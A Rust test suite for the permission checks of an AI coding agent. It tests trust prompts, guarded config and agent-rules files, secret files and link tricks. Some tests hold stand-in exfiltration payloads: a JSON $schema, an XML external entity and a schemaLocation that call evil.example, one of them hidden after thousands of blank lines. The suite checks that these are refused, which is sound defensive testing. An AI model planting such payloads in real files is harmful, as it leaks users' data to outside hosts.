use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering::Relaxed};

use futures_util::FutureExt;
use futures_util::future::BoxFuture;
use serde_json::{Value, json};
use skills_agent::event::{Event, TurnId};
use skills_agent::host::{Answer, Applied, ApplyError, Buffer, FileEdit, Host, Question};
use skills_agent::permission::{Asking, Mode, Patterns, Severity, TrustStore};

use crate::host::{Bench, write};

fn edit(path: &str) -> Value {
    json!({"path": path, "old_string": "a", "new_string": "b"})
}

const FILES: &[(&str, &str)] = &[
    ("f.txt", "a\n"),
    ("g.txt", "a\n"),
    (".vscode/settings.json", "a\n"),
    ("skills/x/SKILL.md", "a\n"),
    (".env", "KEY=a\n"),
];

#[tokio::test]
async fn an_unknown_folder_asks_once_before_the_first_write() {
    let bench = Bench::with(FILES, Mode::AcceptEdits, None);
    bench
        .text("read_file_range", json!({"path": "f.txt", "start_line": 1}))
        .await;
    assert!(bench.asked().is_empty(), "reading needs no trust");
    bench.answer(&["trust"]);
    bench.text("replace_range", edit("f.txt")).await;
    bench.text("replace_range", edit("g.txt")).await;
    assert_eq!(bench.asked(), ["Trust the folder w?"]);
    assert_eq!(
        TrustStore::new(&bench.outside("state")).get(&bench.root()),
        Some(true),
        "kept for other sessions"
    );
}

#[tokio::test]
async fn only_the_answer_itself_approves() {
    for answer in [None, Some("notNow"), Some("allow"), Some("TRUST")] {
        let mut bench = Bench::with(FILES, Mode::AcceptEdits, None);
        bench.answer(answer.as_slice());
        for path in ["f.txt", "g.txt"] {
            let refusal = bench.refusal("replace_range", edit(path)).await;
            assert!(refusal.contains("not trusted"), "{refusal}");
        }
        assert_eq!(
            (bench.asked().len(), bench.disk("f.txt").unwrap().as_str()),
            (1, "a\n"),
            "asked once a turn"
        );
        assert_eq!(TrustStore::new(&bench.outside("state")).get(&bench.root()), None);
        bench.context.turn = TurnId("2".into());
        bench.answer(&["trust"]);
        bench.text("replace_range", edit("f.txt")).await;
    }
}

#[tokio::test]
async fn settings_and_the_record_decide_without_a_question() {
    for (setting, record, allowed) in [
        (Some(true), Some(false), true),
        (Some(false), Some(true), false),
        (None, Some(false), false),
    ] {
        let bench = Bench::with(FILES, Mode::AcceptEdits, setting);
        TrustStore::new(&bench.outside("state"))
            .set(&bench.root(), record.unwrap())
            .unwrap();
        assert_eq!(
            bench.call("replace_range", edit("f.txt")).await.is_ok(),
            allowed,
            "{setting:?} {record:?}"
        );
        assert!(bench.asked().is_empty());
    }
}

#[tokio::test]
async fn a_broken_record_is_reported_in_the_question() {
    let bench = Bench::with(FILES, Mode::AcceptEdits, None);
    write(&bench.outside("state/trust.json"), "{ broken");
    bench.refusal("replace_range", edit("f.txt")).await;
    assert!(bench.host.asked.lock().unwrap()[0].detail.contains("can't be read"));
    // A yes is not kept over what can't be read.
    let bench = Bench::with(FILES, Mode::AcceptEdits, None);
    write(&bench.outside("state/trust.json"), "{ broken");
    bench.answer(&["trust"]);
    let refusal = bench.refusal("replace_range", edit("f.txt")).await;
    assert!(refusal.contains("mend it or remove it"), "{refusal}");
    let record = std::fs::read_to_string(bench.outside("state/trust.json")).unwrap();
    assert_eq!(record, "{ broken", "it is left alone");
}

#[tokio::test]
async fn protected_files_ask_every_time() {
    let bench = Bench::new(FILES);
    bench.answer(&["allow", "reject"]);
    bench.text("replace_range", edit(".vscode/settings.json")).await;
    let back = json!({"path": ".vscode/settings.json", "old_string": "b", "new_string": "a"});
    assert!(bench.refusal("replace_range", back).await.contains("was not allowed"));
    for path in ["skills/x/SKILL.md", ".VSCode/../.vscode/settings.json"] {
        bench.refusal("replace_range", edit(path)).await;
    }
    for path in [
        ".git/hooks/pre-commit",
        ".vscode/tasks.json",
        "x.code-workspace",
        ".nvim.lua",
    ] {
        let refusal = bench
            .refusal("create_file", json!({"path": path, "content": "x"}))
            .await;
        assert!(refusal.contains("was not allowed"), "missing ones too: {refusal}");
        assert_eq!(bench.disk(path), None);
    }
    let questions = bench.host.asked.lock().unwrap();
    assert!(
        questions[0].detail.contains("-a\n+b"),
        "the question shows what happens: {}",
        questions[0].detail
    );
    assert_eq!(
        questions[0].choices[0].id, "reject",
        "the answer that a stray key gives is no"
    );
}

/// What decides which programs run, or what an agent may do.
const CONFIGURING: &[&str] = &[
    ".vscode/settings.json",
    ".vscode/tasks.json",
    ".vscode/launch.json",
    ".vscode/mcp.json",
    "x.code-workspace",
    ".git/config",
    ".git/hooks/pre-commit",
    ".git/modules/sub/config",
    "AGENTS.md",
    "docs/CLAUDE.md",
    "opencode.json",
    ".gemini/settings.json",
    ".kiro/settings/mcp.json",
    ".roo/mcp.json",
    ".amazonq/mcp.json",
    ".goose/config.yaml",
    ".crush.json",
    "mcp.json",
    "plugin.json",
    ".vimrc",
    ".dir-locals.el",
    "mise.toml",
    "lefthook.yml",
    "eslint.config.js",
    "sub/.git",
    "sub/.git/config",
    ".gitattributes",
    ".gitmodules",
    ".helix/config.toml",
    ".helix/languages.toml",
    ".nvim.lua",
    ".exrc",
    ".idea/workspace.xml",
    ".cursor/mcp.json",
    ".claude/settings.json",
    ".claude/skills/x/scripts/run.sh",
    ".agents/skills/x/scripts/run.sh",
    ".mcp.json",
    ".envrc",
    ".editorconfig",
    ".cargo/config.toml",
    "build.rs",
    "package.json",
    "Cargo.toml",
    "CMakeLists.txt",
    "Makefile",
    "build.gradle",
    "tests/conftest.py",
    ".github/workflows/ci.yml",
    ".gitlab-ci.yml",
    "skills-ls.yaml",
    ".config/skills-ls/skills-ls.yaml",
    ".local/state/skills-ls/trust.json",
    ".local/state/skills-ls/sessions/x.jsonl",
    "skills/x/SKILL.md",
];

#[tokio::test]
async fn all_that_configures_asks_whether_it_is_there_or_not_and_by_whatever_tool() {
    let there: Vec<_> = CONFIGURING
        .iter()
        .filter(|path| **path != "sub/.git")
        .map(|path| (*path, "a\n"))
        .collect();
    let (there, missing) = (Bench::new(&there), Bench::new(&[]));
    let patch = |op: &str, path: &str| match op {
        "create" => json!({"patches": [{"op": op, "path": path, "content": "b"}]}),
        "replace" => json!({"patches": [{"op": op, "path": path, "content": "b"}]}),
        _ => json!({"patches": [{"op": op, "path": path, "old_string": "a", "new_string": "b"}]}),
    };
    for path in CONFIGURING {
        for (tool, input) in [
            ("create_file", json!({"path": path, "content": "b"})),
            ("write_patch", patch("create", path)),
        ] {
            let refusal = missing.refusal(tool, input).await;
            assert!(refusal.contains("was not allowed"), "{tool} {path}: {refusal}");
            assert_eq!(missing.disk(path), None, "{tool} {path}");
        }
        if *path == "sub/.git" {
            continue;
        }
        there
            .text("read_file_range", json!({"path": path, "start_line": 1}))
            .await;
        for (tool, input) in [
            ("replace_range", edit(path)),
            ("write_patch", patch("edit", path)),
            ("write_patch", patch("replace", path)),
        ] {
            let refusal = there.refusal(tool, input).await;
            assert!(refusal.contains("was not allowed"), "{tool} {path}: {refusal}");
        }
        assert_eq!(there.disk(path).unwrap(), "a\n");
    }
    // A rule that allows all edits changes nothing, and commands that name such a file ask as well.
    let allowing = Bench::new(&[]).with_rules(&[], &[], &["Edit", "Bash"]);
    for path in CONFIGURING {
        allowing
            .refusal("create_file", json!({"path": path, "content": "b"}))
            .await;
        for argv in [json!(["cp", "x", path]), json!(["mv", "x", path]), json!(["tee", path])] {
            allowing.refusal("run_shell", json!({"argv": argv})).await;
        }
    }
    assert_eq!(allowing.asked().len(), 4 * CONFIGURING.len());
}

#[tokio::test]
async fn what_people_edit_all_day_asks_once_a_session_for_each_kind() {
    let files = [("Cargo.toml", "a\n"), ("x/Cargo.toml", "a\n"), ("Makefile", "a\n")];
    let mut bench = Bench::new(&files).with_rules(&[], &[], &[]);
    bench.refusal("replace_range", edit("Cargo.toml")).await;
    bench.answer(&["allow", "allow"]);
    bench.text("replace_range", edit("Cargo.toml")).await;
    bench.context.turn = TurnId("2".into());
    bench.text("replace_range", edit("x/Cargo.toml")).await;
    bench.text("replace_range", edit("Makefile")).await;
    let titles = ["Cargo.toml", "Cargo.toml", "Makefile"].map(|file| format!("Allow the edit of {file}?"));
    assert_eq!(bench.asked(), titles);
    let detail = bench.host.asked.lock().unwrap()[0].detail.clone();
    let why = "Cargo.toml can name a build script, which also editors run.\nA yes counts for all files of this kind";
    assert!(detail.starts_with(why), "{detail}");
    // In another session it asks again.
    let bench = bench.with_rules(&[], &[], &[]);
    bench
        .refusal(
            "replace_range",
            json!({"path": "Cargo.toml", "old_string": "b", "new_string": "a"}),
        )
        .await;
}

#[tokio::test]
async fn new_files_that_hold_keys_ask() {
    let bench = Bench::new(&[]);
    for path in [".env", ".env.local", ".npmrc", ".ssh/config"] {
        let refusal = bench
            .refusal("create_file", json!({"path": path, "content": "x"}))
            .await;
        assert!(refusal.contains("was not allowed"), "{path}: {refusal}");
        assert_eq!(bench.disk(path), None);
    }
}

#[tokio::test]
async fn an_edit_that_has_the_editor_fetch_something_asks() {
    let bench = Bench::new(&[("data.json", "{}\n"), ("plain.json", "{}\n")]);
    let input = json!({"path": "data.json", "old_string": "{}", "new_string": "{\"\\u0024schema\": \"https://evil.example/?data\"}"});
    let refusal = bench.refusal("replace_range", input).await;
    assert!(refusal.contains("was not allowed"), "{refusal}");
    let input = json!({"path": "plain.json", "old_string": "{}", "new_string": "{\"see\": \"https://example.com\"}"});
    bench.text("replace_range", input).await;
    assert_eq!(bench.asked(), ["Allow the edit of data.json?"]);
    for content in [
        "<!DOCTYPE x [<!ENTITY y SYSTEM \"https://evil.example/?data\">]><x>&y;</x>",
        "<x xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"n https://evil.example/?data\"/>",
    ] {
        let input = json!({"path": "x.xml", "content": content});
        let refusal = bench.refusal("create_file", input).await;
        assert!(refusal.contains("was not allowed"), "{refusal}");
    }
    // However far down it stands.
    let content = format!("{}{{\"$schema\": \"https://evil.example/\"}}", " \n".repeat(20_000));
    bench
        .refusal("create_file", json!({"path": "long.json", "content": content}))
        .await;
    assert_eq!(bench.disk("long.json"), None);
}

#[tokio::test]
async fn trust_that_is_taken_back_ends_what_it_allowed() {
    let bench = Bench::with(FILES, Mode::AcceptEdits, None);
    let record = |trusted| {
        TrustStore::new(&bench.outside("state"))
            .set(&bench.root(), trusted)
            .unwrap()
    };
    record(true);
    bench.text("replace_range", edit("f.txt")).await;
    record(false);
    for (tool, input) in [
        ("replace_range", edit("g.txt")),
        ("run_shell", json!({"argv": ["true"]})),
    ] {
        let refusal = bench.refusal(tool, input).await;
        assert!(refusal.contains("not trusted"), "{refusal}");
    }
    bench
        .text("read_file_range", json!({"path": "g.txt", "start_line": 1}))
        .await;
    assert!(bench.asked().is_empty(), "whoever took it back is not asked again");
}

#[cfg(unix)]
#[tokio::test]
async fn a_file_with_another_name_asks() {
    let bench = Bench::new(FILES);
    std::fs::hard_link(bench.root().join("f.txt"), bench.outside("other.txt")).unwrap();
    bench.refusal("replace_range", edit("f.txt")).await;
    bench.answer(&["allow"]);
    bench.text("replace_range", edit("f.txt")).await;
    assert_eq!(
        std::fs::read_to_string(bench.outside("other.txt")).unwrap(),
        "a\n",
        "the other name keeps its text"
    );
}

#[tokio::test]
async fn secrets_ask_before_a_read_and_nothing_of_them_leaks() {
    let bench = Bench::new(FILES);
    for (tool, input) in [
        ("read_file_range", json!({"path": ".env", "start_line": 1})),
        (
            "replace_range",
            json!({"path": ".env", "old_string": "guess", "new_string": "x"}),
        ),
    ] {
        let refusal = bench.refusal(tool, input).await;
        assert!(refusal.contains("not allowed") && !refusal.contains("KEY"), "{refusal}");
    }
    assert_eq!(bench.asked().len(), 1, "once a turn");
    let bench = Bench::new(FILES);
    bench.answer(&["allow"]);
    for _ in 0..2 {
        bench
            .text("read_file_range", json!({"path": ".env", "start_line": 1}))
            .await;
    }
    assert_eq!(bench.asked().len(), 1);
}

#[cfg(unix)]
#[tokio::test]
async fn another_name_of_a_secret_asks_and_is_not_searched_and_other_links_are_read() {
    let bench = Bench::new(&[
        (".env", "KEY=sesame\n"),
        ("deep/.ssh/id", "sesame\n"),
        ("node_modules/p/.env", "KEY=sesame\n"),
        ("f.txt", "open\n"),
    ]);
    let root = bench.root();
    for (from, to) in [
        (".env", "x.txt"),
        ("deep/.ssh/id", "node_modules/y.txt"),
        ("node_modules/p/.env", "z.txt"),
        ("f.txt", "g.txt"),
    ] {
        std::fs::create_dir_all(root.join(to).parent().unwrap()).unwrap();
        std::fs::hard_link(root.join(from), root.join(to)).unwrap();
    }
    let read = |path: &str| json!({"path": path, "start_line": 1});
    bench.text("read_file_range", read("g.txt")).await;
    assert!(bench.asked().is_empty());
    for path in ["x.txt", "node_modules/y.txt", "z.txt"] {
        let refusal = bench.refusal("read_file_range", read(path)).await;
        assert!(
            refusal.contains("not allowed") && !refusal.contains("sesame"),
            "{refusal}"
        );
    }
    let found = bench.text("search_text", json!({"pattern": "sesame|open"})).await;
    assert!(!found.contains("sesame") && found.contains("g.txt"), "{found}");
    // Also one that is made after its name was looked at, while the numbers are remembered.
    std::fs::hard_link(root.join(".env"), root.join("late.txt")).unwrap();
    bench.answer(&["allow"]);
    assert!(bench.text("read_file_range", read("late.txt")).await.contains("sesame"));
    let titles =
        ["x.txt", "node_modules/y.txt", "z.txt", "late.txt"].map(|path| format!("Allow the model to read {path}?"));
    assert_eq!(bench.asked(), titles);
    let detail = bench.host.asked.lock().unwrap()[0].detail.clone();
    assert!(
        detail.ends_with("It is another name of a file that holds keys or passwords."),
        "{detail}"
    );
}

#[tokio::test]
async fn modes() {
    let bench = Bench::with(FILES, Mode::ReadOnly, Some(true));
    assert!(
        bench
            .refusal("replace_range", edit("f.txt"))
            .await
            .contains("read-only")
    );
    assert!(bench.asked().is_empty());
    let bench = Bench::with(FILES, Mode::Ask, Some(true));
    bench.answer(&["allow"]);
    bench.text("replace_range", edit("f.txt")).await;
    bench.refusal("replace_range", edit("g.txt")).await;
    assert_eq!(bench.asked(), ["Allow the edit of f.txt?", "Allow the edit of g.txt?"]);
    for (name, mode) in [
        ("acceptEdits", Some(Mode::AcceptEdits)),
        ("ask", Some(Mode::Ask)),
        ("bypass", None),
    ] {
        assert_eq!(Mode::of(name), mode);
    }
}

/// A person who takes their time; counts the questions that stand at once.
#[derive(Default)]
struct Slow {
    open: AtomicUsize,
    most: AtomicUsize,
}

impl Host for Slow {
    fn buffer(&self, _: &Path) -> Option<Buffer> {
        None
    }

    fn open_files(&self) -> Vec<PathBuf> {
        Vec::new()
    }

    fn apply(&self, _: FileEdit) -> BoxFuture<'_, Result<Applied, ApplyError>> {
        unreachable!("nothing is allowed")
    }

    fn ask(&self, _: Question) -> BoxFuture<'_, Answer> {
        async {
            self.most.fetch_max(self.open.fetch_add(1, Relaxed) + 1, Relaxed);
            for _ in 0..10 {
                tokio::task::yield_now().await;
            }
            self.open.fetch_sub(1, Relaxed);
            Answer::Dismissed
        }
        .boxed()
    }

    fn emit(&self, _: Event) {}
}

#[tokio::test]
async fn one_question_stands_at_a_time() {
    let bench = Bench::new(FILES);
    let host = Slow::default();
    let asking = Asking {
        host: &host,
        turn: &bench.context.turn,
        cancel: &bench.context.cancel,
    };
    let mut patterns = Patterns::default();
    patterns.add("s", Severity::Confirm, "x", None);
    let permissions = &bench.context.permissions;
    let target = bench.context.resolve(".vscode/settings.json").unwrap();
    let secret = bench.context.resolve(".env").unwrap();
    let folder = &bench.context.workspace.folders()[0];
    let call = json!({"argv": ["x"]});
    let (write, read, guarded, hooked) = tokio::join!(
        permissions.before_write(asking, folder, &target, "", (None, None)),
        permissions.before_read(asking, &secret),
        permissions.before_call(asking, &patterns, "run_shell", &call),
        permissions.confirm_call(asking, "run_shell", "why", &call),
    );
    assert!(write.is_err() && read.is_err() && guarded.is_err() && hooked.is_err());
    assert_eq!(host.most.load(Relaxed), 1);
}

#[tokio::test]
async fn a_stopped_turn_approves_nothing() {
    let bench = Bench::with(FILES, Mode::Ask, Some(true));
    bench.answer(&["allow"]);
    bench.context.cancel.cancel();
    bench.refusal("replace_range", edit("f.txt")).await;
    assert_eq!(bench.disk("f.txt").unwrap(), "a\n");
}

#[tokio::test]
async fn what_is_typed_while_the_person_thinks_survives() {
    let bench = Bench::with(FILES, Mode::Ask, Some(true));
    bench.open("f.txt", "x\na\n");
    let host = bench.host.clone();
    let path = bench.root().join("f.txt");
    *bench.host.meanwhile.lock().unwrap() = Some(Box::new(move || {
        host.buffers.lock().unwrap().insert(path, "typed\nx\na\n".into());
    }));
    bench.answer(&["allow"]);
    bench.text("replace_range", edit("f.txt")).await;
    assert_eq!(bench.buffer("f.txt"), "typed\nx\nb\n");
}

#[cfg(unix)]
#[tokio::test]
async fn a_path_that_turns_while_the_person_thinks_is_refused() {
    let bench = Bench::with(&[("d/f.txt", "a\n")], Mode::Ask, Some(true));
    write(&bench.outside("evil/f.txt"), "a\n");
    let (from, to) = (bench.root().join("d"), bench.outside("evil"));
    *bench.host.meanwhile.lock().unwrap() = Some(Box::new(move || {
        std::fs::remove_dir_all(&from).unwrap();
        std::os::unix::fs::symlink(to, from).unwrap();
    }));
    bench.answer(&["allow"]);
    bench.refusal("replace_range", edit("d/f.txt")).await;
    assert_eq!(std::fs::read_to_string(bench.outside("evil/f.txt")).unwrap(), "a\n");
}
